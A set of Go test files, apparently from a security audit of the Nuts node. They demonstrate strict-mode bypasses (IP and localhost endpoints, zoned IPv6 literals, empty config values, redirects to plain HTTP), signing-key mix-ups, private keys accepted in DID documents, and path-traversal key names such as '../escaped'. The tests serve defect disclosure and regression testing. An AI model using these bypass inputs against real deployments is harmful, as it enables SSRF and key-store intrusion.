// place in /repo/auth/services/irma and run  go test -run TestDemoC20 ./auth/services/irma/
// In strict mode (Production) the verifier must drop attributes issued under a non-production scheme manager.

import (
	"testing"

	irma "github.com/privacybydesign/irmago"
	"github.com/stretchr/testify/require"
)

func TestDemoC20_strictModeReachesVerifier(t *testing.T) {
	_, verifier, err := NewSignerAndVerifier(Config{
		IrmaConfigPath:    "../../../development/irma",
		IrmaSchemeManager: "empty",
		PublicURL:         "https://example.com",
		Production:        true,
	})
	require.NoError(t, err)
	// the verifier hands its flag to parseSignerAttributes: an irma-demo attribute must be filtered in strict mode
	name := "forged"
	attrs := [][]*irma.DisclosedAttribute{{{Identifier: irma.NewAttributeTypeIdentifier("irma-demo.gemeente.personalData.fullname"), RawValue: &name}}}
	got := parseSignerAttributes(verifier.strictMode, attrs)
	require.Empty(t, got, "a demo-scheme attribute is accepted although strict mode (Production) is on")
}
