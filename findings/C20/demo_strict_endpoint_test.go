package iam

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/core"
	"github.com/nuts-foundation/nuts-node/http/client"
	"github.com/nuts-foundation/nuts-node/vcr/pe"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// demoPublicHost is a host name that is valid in strict mode (https, no IP, no reserved TLD).
// Since there's no DNS in the test, demoRecordingDoer sends requests for this host to the local test server.
const demoPublicHost = "as.nuts-services.nl"

// demoRecordingDoer records the URL of every outbound request as the node intended it,
// and sends requests for demoPublicHost to the local TLS test server.
type demoRecordingDoer struct {
	inner      core.HTTPRequestDoer
	serverHost string
	mux        sync.Mutex
	urls       []string
}

func (d *demoRecordingDoer) Do(req *http.Request) (*http.Response, error) {
	d.mux.Lock()
	d.urls = append(d.urls, req.Method+" "+req.URL.String())
	d.mux.Unlock()
	if req.URL.Host == demoPublicHost {
		req = req.Clone(req.Context())
		req.URL.Host = d.serverHost
		req.Host = demoPublicHost
	}
	return d.inner.Do(req)
}

func (d *demoRecordingDoer) requestsToIP() []string {
	d.mux.Lock()
	defer d.mux.Unlock()
	var result []string
	for _, curr := range d.urls {
		u, _ := url.Parse(curr[strings.Index(curr, " ")+1:])
		if u != nil && (u.Hostname() == "127.0.0.1" || u.Hostname() == "localhost" || u.Hostname() == "::1") {
			result = append(result, curr)
		}
	}
	return result
}

// strictDemoContext creates the standard client/server test context, but with the client in strict mode.
func strictDemoContext(t *testing.T) (*clientServerTestContext, *demoRecordingDoer) {
	ctx := createClientServerTestContext(t)
	oldStrictMode := client.StrictMode
	client.StrictMode = true
	t.Cleanup(func() { client.StrictMode = oldStrictMode })

	c := ctx.client.(*OpenID4VPClient)
	doer := &demoRecordingDoer{inner: c.httpClient.httpClient, serverHost: ctx.verifierURL.Host}
	c.strictMode = true
	c.httpClient.strictMode = true
	c.httpClient.httpClient = doer
	return ctx, doer
}

// In strict mode, every endpoint the IAM client calls is validated with core.ParsePublicURL(endpoint, strictMode):
// must be https, must not be an IP address, must not be a reserved host (localhost etc.).
// The token endpoint taken from the (remote, untrusted) authorization server metadata in the service-to-service flow
// is the exception: it is used as-is.
func TestDemo_StrictMode_S2STokenEndpointIsNotValidated(t *testing.T) {
	const subjectID = "subby"
	const subjectClientID = "https://example.com/oauth2/subby"
	walletDID := did.MustParseDID("did:test:primary")
	holderURI := walletDID.URI()
	createdVP := &vc.VerifiablePresentation{Holder: &holderURI}
	authServerURL := "https://" + demoPublicHost

	t.Run("control: presentation definition endpoint on an IP address is refused in strict mode", func(t *testing.T) {
		ctx, doer := strictDemoContext(t)
		// ctx.tlsServer.URL is https://127.0.0.1:<port>
		ctx.authzServerMetadata.PresentationDefinitionEndpoint = ctx.tlsServer.URL + "/presentation_definition"
		ctx.authzServerMetadata.TokenEndpoint = authServerURL + "/token"

		_, err := ctx.client.RequestRFC021AccessToken(context.Background(), subjectClientID, subjectID, authServerURL, "first second", false, nil)

		require.EqualError(t, err, "hostname is IP")
		assert.Empty(t, doer.requestsToIP())
	})
	t.Run("token endpoint on an IP address must be refused in strict mode", func(t *testing.T) {
		ctx, doer := strictDemoContext(t)
		ctx.authzServerMetadata.PresentationDefinitionEndpoint = authServerURL + "/presentation_definition"
		// ctx.tlsServer.URL is https://127.0.0.1:<port>
		ctx.authzServerMetadata.TokenEndpoint = ctx.tlsServer.URL + "/token"
		ctx.subjectManager.EXPECT().ListDIDs(gomock.Any(), subjectID).Return([]did.DID{walletDID}, nil).AnyTimes()
		ctx.wallet.EXPECT().BuildSubmission(gomock.Any(), gomock.Any(), gomock.Any(), gomock.Any(), gomock.Any()).Return(createdVP, &pe.PresentationSubmission{}, nil).AnyTimes()

		response, err := ctx.client.RequestRFC021AccessToken(context.Background(), subjectClientID, subjectID, authServerURL, "first second", false, nil)

		assert.Error(t, err, "strict mode: token endpoint that is an IP address was accepted")
		assert.Nil(t, response)
		assert.Empty(t, doer.requestsToIP(), "strict mode: the VP was posted to an endpoint that is an IP address")
	})
	t.Run("token endpoint on a reserved host (localhost) must be refused in strict mode", func(t *testing.T) {
		ctx, doer := strictDemoContext(t)
		ctx.authzServerMetadata.PresentationDefinitionEndpoint = authServerURL + "/presentation_definition"
		ctx.authzServerMetadata.TokenEndpoint = "https://localhost:" + ctx.verifierURL.Port() + "/token"
		ctx.subjectManager.EXPECT().ListDIDs(gomock.Any(), subjectID).Return([]did.DID{walletDID}, nil).AnyTimes()
		ctx.wallet.EXPECT().BuildSubmission(gomock.Any(), gomock.Any(), gomock.Any(), gomock.Any(), gomock.Any()).Return(createdVP, &pe.PresentationSubmission{}, nil).AnyTimes()

		response, err := ctx.client.RequestRFC021AccessToken(context.Background(), subjectClientID, subjectID, authServerURL, "first second", false, nil)

		assert.Error(t, err, "strict mode: token endpoint on a reserved host was accepted")
		assert.Nil(t, response)
		assert.Empty(t, doer.requestsToIP(), "strict mode: the VP was posted to a reserved host")
	})
	t.Run("non-strict mode: token endpoint on an IP address is accepted (control)", func(t *testing.T) {
		ctx := createClientServerTestContext(t)
		ctx.subjectManager.EXPECT().ListDIDs(gomock.Any(), subjectID).Return([]did.DID{walletDID}, nil)
		ctx.wallet.EXPECT().BuildSubmission(gomock.Any(), gomock.Any(), gomock.Any(), gomock.Any(), gomock.Any()).Return(createdVP, &pe.PresentationSubmission{}, nil)

		response, err := ctx.client.RequestRFC021AccessToken(context.Background(), subjectClientID, subjectID, ctx.verifierURL.String(), "first second", false, nil)

		require.NoError(t, err)
		assert.Equal(t, "token", response.AccessToken)
	})
}

// Same for the credential endpoint from the (remote, untrusted) OpenID4VCI credential issuer metadata:
// the access token and proof are posted to it without the strict mode checks on the host.
func TestDemo_StrictMode_CredentialEndpointIsNotValidated(t *testing.T) {
	ctx, doer := strictDemoContext(t)

	// ctx.openIDCredentialIssuerMetadata.CredentialEndpoint is https://127.0.0.1:<port>/credentials
	response, err := ctx.client.VerifiableCredentials(context.Background(), ctx.openIDCredentialIssuerMetadata.CredentialEndpoint, "access-token", "proof")

	assert.Error(t, err, "strict mode: credential endpoint that is an IP address was accepted")
	assert.Nil(t, response)
	assert.Empty(t, doer.requestsToIP(), "strict mode: access token was posted to an endpoint that is an IP address")
}
