package core

import (
	"net"
	"net/netip"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// In strict mode the public URL (and every remote endpoint checked with ParsePublicURL) must not name an IP address.
// The check uses net.ParseIP, which does not understand IPv6 zone identifiers (RFC 6874: https://[fe80::1%25eth0]).
// url.Parse and the Go HTTP client/dialer do understand them, so a zoned IPv6 literal passes the strict mode check
// although it is an IP address.
func TestDemo_StrictModePublicURL_IPv6ZoneLiteral(t *testing.T) {
	inputs := []string{
		"https://[fe80::1%25eth0]",
		"https://[fe80::1%25eth0]:8443/some/path",
		"https://[::1%25lo]",
		"https://[::ffff:127.0.0.1%251]",
	}
	for _, input := range inputs {
		t.Run(input, func(t *testing.T) {
			// control: the same address without zone is refused
			t.Run("ParsePublicURL", func(t *testing.T) {
				result, err := ParsePublicURL(input, true)
				if err == nil {
					// prove that what was accepted is an IP address, which Go's dialer will connect to as such
					addr, addrErr := netip.ParseAddr(result.Hostname())
					require.NoError(t, addrErr)
					host, _, splitErr := net.SplitHostPort(net.JoinHostPort(result.Hostname(), "443"))
					require.NoError(t, splitErr)
					t.Logf("accepted in strict mode, but hostname %q is IP address %s (zone %q)", host, addr.WithZone(""), addr.Zone())
				}
				assert.EqualError(t, err, "hostname is IP")
				assert.Nil(t, result)
			})
			t.Run("ServerConfig.ServerURL (the 'url' option)", func(t *testing.T) {
				cfg := NewServerConfig() // strict mode is the default
				require.True(t, cfg.Strictmode)
				cfg.URL = input
				result, err := cfg.ServerURL()
				assert.EqualError(t, err, "invalid 'url': hostname is IP")
				assert.Nil(t, result)
			})
			t.Run("non-strict mode accepts it (control)", func(t *testing.T) {
				_, err := ParsePublicURL(input, false)
				assert.NoError(t, err)
			})
		})
	}
	t.Run("control: without zone it is refused", func(t *testing.T) {
		_, err := ParsePublicURL("https://[fe80::1]", true)
		assert.EqualError(t, err, "hostname is IP")
	})
}
