package auth

// Demonstration for the C20 defect (fixed by "fix: set the auth module's strict mode flag"):
// place in /repo/auth and run  go test -run TestDemoC20 ./auth/
// After Configure with strict mode on (the default) the flag handed to the IAM client must be on; before the fix
// Auth.strictMode was never assigned, so the IAM client validated remote URLs leniently (http, IPs, reserved hosts).

import (
	"testing"

	"github.com/nuts-foundation/nuts-node/core"
	"github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/pki"
	"github.com/nuts-foundation/nuts-node/vcr"
	"github.com/nuts-foundation/nuts-node/vdr"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

func TestDemoC20_authStrictModeIsSet(t *testing.T) {
	serverConfig := *core.NewServerConfig() // Strictmode: true by default
	serverConfig.URL = "https://nuts.nl"
	require.True(t, serverConfig.Strictmode)
	config := DefaultConfig()
	config.ContractValidators = []string{"dummy"}
	ctrl := gomock.NewController(t)
	pkiMock := pki.NewMockProvider(ctrl)
	pkiMock.EXPECT().CreateTLSConfig(gomock.Any())
	vdrInstance := vdr.NewMockVDR(ctrl)
	vdrInstance.EXPECT().Resolver().AnyTimes()
	i := NewAuthInstance(config, vdrInstance, nil, vcr.NewTestVCRInstance(t), crypto.NewMemoryCryptoInstance(t), nil, nil, pkiMock)
	require.NoError(t, i.Configure(serverConfig))
	require.True(t, i.strictMode, "the strict flag never reaches the IAM client: remote endpoints are validated leniently in strict mode")
}
