package core

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Strict mode is on by default and is only to be switched off explicitly (strictmode=false).
// An EMPTY value (NUTS_STRICTMODE= in the environment, e.g. from an unset docker-compose/k8s substitution, or
// `strictmode: ""` in the config file) is neither true nor false, but it is silently decoded as false (weakly typed
// decoding of "" into a bool): the node starts with all strict mode checks disabled, without any error or warning.
func TestDemo_EmptyStrictmodeValueSilentlyDisablesStrictMode(t *testing.T) {
	load := func(t *testing.T, args ...string) (*ServerConfig, error) {
		cfg := NewServerConfig()
		flags := FlagSet()
		require.NoError(t, flags.Parse(args))
		return cfg, cfg.Load(flags)
	}
	assertStrict := func(t *testing.T, cfg *ServerConfig, err error) {
		// either start-up is refused, or strict mode keeps its secure default
		if err == nil {
			assert.True(t, cfg.Strictmode, "strict mode was silently switched off by an empty value")
			// consequence: the insecure public URL is accepted
			cfg.URL = "http://127.0.0.1"
			_, urlErr := cfg.ServerURL()
			assert.Error(t, urlErr, "insecure 'url' accepted")
		}
	}
	t.Run("control: default is strict", func(t *testing.T) {
		cfg, err := load(t, "--configfile", "")
		require.NoError(t, err)
		assert.True(t, cfg.Strictmode)
	})
	t.Run("control: garbage value is refused", func(t *testing.T) {
		t.Setenv("NUTS_STRICTMODE", "maybe")
		_, err := load(t, "--configfile", "")
		assert.Error(t, err)
	})
	t.Run("empty environment variable", func(t *testing.T) {
		t.Setenv("NUTS_STRICTMODE", "")
		cfg, err := load(t, "--configfile", "")
		assertStrict(t, cfg, err)
	})
	t.Run("empty string in config file", func(t *testing.T) {
		file := filepath.Join(t.TempDir(), "nuts.yaml")
		require.NoError(t, os.WriteFile(file, []byte("strictmode: \"\"\n"), 0600))
		cfg, err := load(t, "--configfile", file)
		assertStrict(t, cfg, err)
	})
}
