package jsonld

import (
	"crypto/tls"
	"crypto/x509"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"

	"github.com/nuts-foundation/nuts-node/core"
	"github.com/nuts-foundation/nuts-node/http/client"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const demoContext = `{"@context": {"demo": "https://example.com/demo#"}}`

// plainHTTPContextServer serves a JSON-LD context over plain HTTP and counts the requests it receives.
func plainHTTPContextServer(t *testing.T) (*httptest.Server, *atomic.Int32) {
	hits := new(atomic.Int32)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Content-Type", "application/ld+json")
		_, _ = w.Write([]byte(demoContext))
	}))
	t.Cleanup(server.Close)
	return server, hits
}

func configuredInstance(strictmode bool, remoteContextURL string) (*jsonld, error) {
	instance := NewJSONLDInstance().(*jsonld)
	instance.config.Contexts.RemoteAllowList = append(instance.config.Contexts.RemoteAllowList, remoteContextURL)
	return instance, instance.Configure(core.ServerConfig{Strictmode: strictmode})
}

// In strict mode the node must not make plain-HTTP outbound requests. Remote JSON-LD contexts (those on
// jsonld.contexts.remoteallowlist that are not mapped to a local file) are fetched with http.DefaultClient,
// which knows nothing about strict mode.
func TestDemo_StrictMode_RemoteContextOverPlainHTTP(t *testing.T) {
	t.Run("strict mode off: context is fetched over plain HTTP (allowed)", func(t *testing.T) {
		server, hits := plainHTTPContextServer(t)
		instance, err := configuredInstance(false, server.URL+"/context.jsonld")
		require.NoError(t, err)
		_, err = instance.DocumentLoader().LoadDocument(server.URL + "/context.jsonld")
		require.NoError(t, err)
		assert.Equal(t, int32(1), hits.Load())
	})
	t.Run("strict mode on: plain HTTP context on the allow list", func(t *testing.T) {
		server, hits := plainHTTPContextServer(t)
		// either the configuration is refused...
		instance, err := configuredInstance(true, server.URL+"/context.jsonld")
		if err == nil {
			// ...or loading the context is
			_, err = instance.DocumentLoader().LoadDocument(server.URL + "/context.jsonld")
		}
		assert.Error(t, err, "strict mode: a JSON-LD context must not be loaded over plain HTTP")
		assert.Equal(t, int32(0), hits.Load(), "strict mode: the node made a plain-HTTP outbound request")
	})
	t.Run("strict mode on: HTTPS context on the allow list redirects to plain HTTP", func(t *testing.T) {
		plainServer, plainHits := plainHTTPContextServer(t)
		tlsHits := new(atomic.Int32)
		tlsServer := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			tlsHits.Add(1)
			http.Redirect(w, r, plainServer.URL+"/context.jsonld", http.StatusFound)
		}))
		defer tlsServer.Close()
		// Let both http.DefaultClient and the node's own HTTP transport trust the test server's certificate,
		// so the outcome of this test does not depend on which of the two is used to fetch the context.
		pool := x509.NewCertPool()
		pool.AddCert(tlsServer.Certificate())
		oldTransport := http.DefaultClient.Transport
		http.DefaultClient.Transport = &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}
		oldRootCAs := client.SafeHttpTransport.TLSClientConfig.RootCAs
		client.SafeHttpTransport.TLSClientConfig.RootCAs = pool
		defer func() {
			http.DefaultClient.Transport = oldTransport
			client.SafeHttpTransport.TLSClientConfig.RootCAs = oldRootCAs
		}()

		instance, err := configuredInstance(true, tlsServer.URL+"/context.jsonld")
		require.NoError(t, err)
		_, err = instance.DocumentLoader().LoadDocument(tlsServer.URL + "/context.jsonld")

		assert.Equal(t, int32(1), tlsHits.Load(), "sanity check: the HTTPS request should have been made")
		assert.Error(t, err, "strict mode: the redirect to plain HTTP must not be followed")
		assert.Equal(t, int32(0), plainHits.Load(), "strict mode: the node made a plain-HTTP outbound request")
	})
}
