package client

import (
	"crypto/tls"
	"crypto/x509"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"time"
)

// In strict mode the client refuses requests that are not over HTTPS ("strictmode is enabled, but request is not over HTTPS"),
// but it only looks at the first request: a redirect to plain HTTP is followed.
func TestDemo_StrictModeFollowsRedirectToPlainHTTP(t *testing.T) {
	StrictMode = true
	defer func() { StrictMode = false }()

	var plainHits atomic.Int32
	plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		plainHits.Add(1)
		_, _ = w.Write([]byte("from plain HTTP"))
	}))
	defer plain.Close()
	secure := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, plain.URL, http.StatusFound)
	}))
	defer secure.Close()
	pool := x509.NewCertPool()
	pool.AddCert(secure.Certificate())
	httpClient := NewWithTLSConfig(5*time.Second, &tls.Config{RootCAs: pool})

	request, _ := http.NewRequest(http.MethodGet, secure.URL, nil)
	response, err := httpClient.Do(request)

	if plainHits.Load() != 0 {
		t.Errorf("strict mode, but a request was made to %s", plain.URL)
	}
	if err == nil {
		t.Errorf("strict mode, but got a response over plain HTTP (status %d)", response.StatusCode)
	}
}
