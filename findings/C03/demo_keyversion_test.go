package azure

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"errors"
	"net/http"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/azcore"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore/runtime"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore/to"
	"github.com/Azure/azure-sdk-for-go/sdk/security/keyvault/azkeys"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// fakeVersionedVault behaves like Azure Key Vault with regard to key versions: a key name addresses a list of versions,
// an empty version addresses the latest (current) version of the key.
type fakeVersionedVault struct {
	// keys maps key name -> ordered list of versions (the last one is the current version)
	keys map[string][]fakeKeyVersion
}

type fakeKeyVersion struct {
	version string
	key     *ecdsa.PrivateKey
}

func (f *fakeVersionedVault) addVersion(name string, version string) *ecdsa.PrivateKey {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	f.keys[name] = append(f.keys[name], fakeKeyVersion{version: version, key: key})
	return key
}

func (f *fakeVersionedVault) lookup(name string, version string) (*fakeKeyVersion, error) {
	versions := f.keys[name]
	if len(versions) == 0 {
		return nil, &azcore.ResponseError{StatusCode: http.StatusNotFound}
	}
	if version == "" {
		// Azure Key Vault: "If not specified, the latest version of the key is used"
		return &versions[len(versions)-1], nil
	}
	for i := range versions {
		if versions[i].version == version {
			return &versions[i], nil
		}
	}
	return nil, &azcore.ResponseError{StatusCode: http.StatusNotFound}
}

func (f *fakeVersionedVault) GetKey(_ context.Context, name string, version string, _ *azkeys.GetKeyOptions) (azkeys.GetKeyResponse, error) {
	entry, err := f.lookup(name, version)
	if err != nil {
		return azkeys.GetKeyResponse{}, err
	}
	id := azkeys.ID("https://myvaultname.vault.azure.net/keys/" + name + "/" + entry.version)
	return azkeys.GetKeyResponse{KeyBundle: azkeys.KeyBundle{Key: &azkeys.JSONWebKey{
		Kty: to.Ptr(azkeys.KeyTypeEC),
		Crv: to.Ptr(azkeys.CurveNameP256),
		X:   entry.key.X.FillBytes(make([]byte, 32)),
		Y:   entry.key.Y.FillBytes(make([]byte, 32)),
		KID: &id,
	}}}, nil
}

func (f *fakeVersionedVault) Sign(_ context.Context, name string, version string, parameters azkeys.SignParameters, _ *azkeys.SignOptions) (azkeys.SignResponse, error) {
	entry, err := f.lookup(name, version)
	if err != nil {
		return azkeys.SignResponse{}, err
	}
	r, s, err := ecdsa.Sign(rand.Reader, entry.key, parameters.Value)
	if err != nil {
		return azkeys.SignResponse{}, err
	}
	// Azure Key Vault returns r|s
	result := append(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))...)
	return azkeys.SignResponse{KeyOperationResult: azkeys.KeyOperationResult{Result: result}}, nil
}

func (f *fakeVersionedVault) CreateKey(context.Context, string, azkeys.CreateKeyParameters, *azkeys.CreateKeyOptions) (azkeys.CreateKeyResponse, error) {
	return azkeys.CreateKeyResponse{}, errors.New("not implemented")
}

func (f *fakeVersionedVault) DeleteKey(context.Context, string, *azkeys.DeleteKeyOptions) (azkeys.DeleteKeyResponse, error) {
	return azkeys.DeleteKeyResponse{}, errors.New("not implemented")
}

func (f *fakeVersionedVault) NewListKeyPropertiesPager(*azkeys.ListKeyPropertiesOptions) *runtime.Pager[azkeys.ListKeyPropertiesResponse] {
	return nil
}

// TestDemo_SignerSignsWithTheKeyVersionItWasResolvedFor demonstrates that the crypto.Signer returned by
// Keyvault.GetPrivateKey(name, version) publishes the public key of the requested version (which is what ends up in the
// DID document, since Crypto.New() stores the version in the key reference), but signs with the *latest* version of the
// key in the vault. After a key in the vault got a new version (rotation policy, `az keyvault key rotate`, or a
// create-key with the same name), every signature made for the kid is made with another private key than the one
// whose public key is published for that kid.
func TestDemo_SignerSignsWithTheKeyVersionItWasResolvedFor(t *testing.T) {
	const keyName = "0d36b2dc-2f0e-4c0c-8d4d-4f9d0c8e2a11"
	vault := &fakeVersionedVault{keys: map[string][]fakeKeyVersion{}}
	store := Keyvault{client: vault, timeOut: 5 * time.Second}
	ctx := context.Background()

	// the key is created: version 1. The node stores (kid, keyName, "v1") as key reference and publishes the public key.
	v1 := vault.addVersion(keyName, "v1")
	published, err := store.GetPrivateKey(ctx, keyName, "v1")
	require.NoError(t, err)
	require.True(t, v1.PublicKey.Equal(published.Public()), "sanity check: public key of v1 is published")

	// the key in the vault gets a new version
	vault.addVersion(keyName, "v2")

	// the node signs with the key reference (keyName, "v1")
	signer, err := store.GetPrivateKey(ctx, keyName, "v1")
	require.NoError(t, err)
	require.True(t, v1.PublicKey.Equal(signer.Public()), "the signer claims to be version v1")
	digest := sha256.Sum256([]byte("hello"))
	signature, err := signer.Sign(rand.Reader, digest[:], nil)
	require.NoError(t, err)

	assert.True(t, ecdsa.VerifyASN1(signer.Public().(*ecdsa.PublicKey), digest[:], signature),
		"signature does not verify with the public key of the signer (= the public key published for the key ID)")
}
