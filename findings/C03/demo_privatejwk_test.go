package didnuts

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/nuts-foundation/go-did/did"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_DocumentValidatorRefusesPrivateKeyInPublicKeyJwk demonstrates that the did:nuts DID document validators
// (used for documents the node is about to publish: ManagedDocumentValidator, and for documents received from the network:
// NetworkDocumentValidator) accept a verification method whose publicKeyJwk contains a complete *private* JWK (with "d").
// The key ID check (thumbprint) only looks at the public members, so the document is valid, gets signed, published on the
// DAG and is gossiped to and stored by every node: the private key is disclosed for good.
func TestDemo_DocumentValidatorRefusesPrivateKeyInPublicKeyJwk(t *testing.T) {
	document, _ := newDidDoc(t)

	// a key pair, e.g. copied from the key store's backend (fs/Vault store the key as PEM/JWK convertible material)
	privateKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	require.NoError(t, err)
	privateJWK, err := jwk.FromRaw(privateKey)
	require.NoError(t, err)
	require.NoError(t, jwk.AssignKeyID(privateJWK)) // thumbprint, as RFC006 requires
	keyID := did.DIDURL{DID: document.ID, Fragment: privateJWK.KeyID()}
	_ = privateJWK.Remove(jwk.KeyIDKey)
	privateJWKAsMap := map[string]interface{}{}
	data, _ := json.Marshal(privateJWK)
	require.NoError(t, json.Unmarshal(data, &privateJWKAsMap))
	require.Contains(t, privateJWKAsMap, "d", "sanity check: the JWK contains the private exponent")

	// the verification method as it is in the JSON of an update (API call) or of a DAG transaction payload
	verificationMethod := &did.VerificationMethod{
		ID:           keyID,
		Type:         document.VerificationMethod[0].Type,
		Controller:   document.ID,
		PublicKeyJwk: privateJWKAsMap,
	}
	document.AddAssertionMethod(verificationMethod)

	// as received: JSON
	documentJSON, err := json.Marshal(document)
	require.NoError(t, err)
	require.Contains(t, string(documentJSON), `"d":"`, "sanity check: the private key is in the DID document")
	var received did.Document
	require.NoError(t, json.Unmarshal(documentJSON, &received))

	t.Run("document received from the network", func(t *testing.T) {
		err := NetworkDocumentValidator().Validate(received)

		assert.Error(t, err, "a DID document that contains a private key must be refused")
	})
	t.Run("document managed by this node, validated before it is published", func(t *testing.T) {
		err := ManagedDocumentValidator(nil).Validate(received)

		assert.Error(t, err, "a DID document that contains a private key must not be published")
	})
}
