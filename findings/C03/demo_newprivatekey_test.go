package fs

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/nuts-foundation/nuts-node/crypto/storage/spi"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_WrapperValidatesKeyNameOnNewPrivateKey demonstrates that the key name validation wrapper, which the crypto engine
// puts around every backend (crypto.go: spi.NewValidatedKIDBackendWrapper(backend, spi.KidPattern)), does not validate
// the key name of NewPrivateKey: the only operation that *creates* a private key. A path-like key name makes the backend
// generate a private key and write it outside the key store's directory, while every other operation of the wrapper
// refuses the very same name.
func TestDemo_WrapperValidatesKeyNameOnNewPrivateKey(t *testing.T) {
	ctx := context.Background()
	for _, keyName := range []string{"../escaped", "sub/../../escaped", "..", "/../escaped", "a/b"} {
		t.Run(keyName, func(t *testing.T) {
			root := t.TempDir()
			keyStoreDir := filepath.Join(root, "data", "crypto")
			// "a/b" needs an existing sub directory to succeed in the fs backend; create the directories a path-like name could address
			require.NoError(t, os.MkdirAll(filepath.Join(keyStoreDir, "a"), 0700))
			require.NoError(t, os.MkdirAll(filepath.Join(keyStoreDir, "sub"), 0700))
			backend, err := NewFileSystemBackend(keyStoreDir)
			require.NoError(t, err)
			// exactly what crypto.Crypto.setupFSBackend does
			store := spi.NewValidatedKIDBackendWrapper(backend, spi.KidPattern)

			// sanity check: all other operations refuse the name
			_, err = store.GetPrivateKey(ctx, keyName, "1")
			require.ErrorContains(t, err, "invalid key ID")
			_, err = store.PrivateKeyExists(ctx, keyName, "1")
			require.ErrorContains(t, err, "invalid key ID")
			require.ErrorContains(t, store.DeletePrivateKey(ctx, keyName), "invalid key ID")

			_, _, err = store.NewPrivateKey(ctx, keyName)

			assert.ErrorContains(t, err, "invalid key ID", "NewPrivateKey must refuse a key name outside the key store's namespace")
			// no private key may have been written anywhere but directly in the key store's directory
			var pemFiles []string
			_ = filepath.Walk(root, func(path string, info os.FileInfo, err error) error {
				if err == nil && !info.IsDir() {
					pemFiles = append(pemFiles, path)
				}
				return nil
			})
			assert.Empty(t, pemFiles, "a private key was written for a refused key name")
		})
	}
}
