package crypto

import (
	"crypto/ecdsa"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Crypto.New() documents: "It returns an error when a key with the resulting ID already exists."
// It doesn't: the key reference is written with gorm's Save() (an upsert), so the second New() silently re-points the
// existing kid to a freshly generated private key. From then on a signature requested for that kid no longer verifies with
// the public key that was returned (and published, e.g. in a DID document) for it.
func TestDemo_New_ExistingKIDIsSilentlyRepointed(t *testing.T) {
	client := createCrypto(t)
	ctx := audit.TestContext()
	const kid = "did:web:example.com#key-1"

	// the key that is "published" for kid
	_, publishedKey, err := client.New(ctx, StringNamingFunc(kid))
	require.NoError(t, err)

	// a second key for which the naming function yields the same kid
	_, _, err = client.New(ctx, StringNamingFunc(kid))
	assert.Error(t, err, "New() must refuse a kid that already exists in the key store")

	// whatever New() answered: a signature requested for kid must verify with the public key published for kid
	signature, err := client.SignJWS(ctx, []byte("payload"), map[string]interface{}{}, kid, false)
	require.NoError(t, err)
	_, err = jws.Verify([]byte(signature), jws.WithKey(jwa.ES256, publishedKey))
	assert.NoError(t, err, "signature requested for kid does not verify with the public key published for kid")

	// and the public key the key store reports for kid must still be the published one
	resolved, err := client.Resolve(ctx, kid)
	require.NoError(t, err)
	assert.True(t, publishedKey.(*ecdsa.PublicKey).Equal(resolved), "kid now addresses another key pair")

	// no unreferenced private key may be left behind in the backend by the refused creation
	assert.Len(t, client.backend.ListPrivateKeys(ctx), 1, "the refused creation left its private key in the backend")
}
