package spi

// Demonstration for the C03 defect (fixed by "fix: refuse '.' and '..' as key names"):
// place in /repo/crypto/storage/spi and run  go test -run TestDemoC03 ./crypto/storage/spi/
// The key name ".." passes KidPattern; the Vault backend builds prefix/nuts-private-keys/.. from it, which cleans to the
// prefix itself: storage outside the key store's namespace.

import (
	"context"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

func TestDemoC03_dotDotKeyNameIsRefused(t *testing.T) {
	ctrl := gomock.NewController(t)
	backend := NewMockStorage(ctrl)
	backend.EXPECT().GetPrivateKey(gomock.Any(), gomock.Any(), gomock.Any()).AnyTimes().Return(nil, ErrNotFound)
	w := NewValidatedKIDBackendWrapper(backend, KidPattern)
	for _, name := range []string{"..", "."} {
		// what the vault backend does with the name (crypto/storage/vault.privateKeyPath):
		p := filepath.Clean("kv/nuts-private-keys/" + filepath.Base(name))
		require.NotContains(t, p, "nuts-private-keys/", "precondition: %q addresses %q, outside the individual key namespace", name, p)
		_, err := w.GetPrivateKey(context.Background(), name, "1")
		require.ErrorContains(t, err, "invalid key ID", "key name %q must be refused by the wrapper", name)
	}
}
