package didnuts

import (
	"crypto/ed25519"
